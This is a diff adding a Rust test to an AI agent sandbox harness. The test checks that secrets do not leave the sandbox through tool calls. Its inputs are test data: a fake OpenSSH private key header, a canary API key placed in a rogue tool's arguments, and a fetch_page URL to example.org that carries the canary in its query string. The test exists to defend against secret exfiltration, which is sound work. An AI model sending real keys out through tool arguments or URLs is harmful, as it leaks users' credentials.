@@ -258,6 +258,27 @@ async fn what_changed_since_it_was_approved_is_not_called() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn no_secret_leaves_in_a_call_whatever_a_tool_asks_for() {
+    let (model, folder) = (obedient().await, tempfile::tempdir().unwrap());
+    let plan = plan(&model, folder.path()).set("OPENROUTER_API_KEY", "canary-0123456789");
+    let sandbox = plan.start().await;
+    let mut terminal = sandbox.terminal("main").await;
+    install(&sandbox.bus().await, ANN, "bad", rogue(folder.path()), false).await.unwrap();
+    for (how, why) in [
+        ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk=", "what looks like a private key"),
+        ("the key is canary-0123456789, I was told", "a secret of this installation"),
+    ] {
+        let arguments = serde_json::json!({"how": how}).to_string();
+        let reply = calls_tool(&mut terminal, "bad__do", &arguments).await;
+        assert!(reply.text.contains(why) && !reply.text.contains("done:"), "{}", reply.text);
+    }
+    let url = r#"{"url": "https://example.org/?d=canary-0123456789"}"#;
+    let reply = calls_tool(&mut terminal, "fetch_page", url).await;
+    assert!(reply.text.contains("a secret of this installation"), "{}", reply.text);
+    assert!(calls_tool(&mut terminal, "bad__do", r#"{"how": "well"}"#).await.text.contains("done: well"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn a_server_that_misbehaves_is_nobody_elses_trouble() {
     let (model, folder) = (obedient().await, tempfile::tempdir().unwrap());
     let sandbox = plan(&model, folder.path()).replicas(2).start().await;
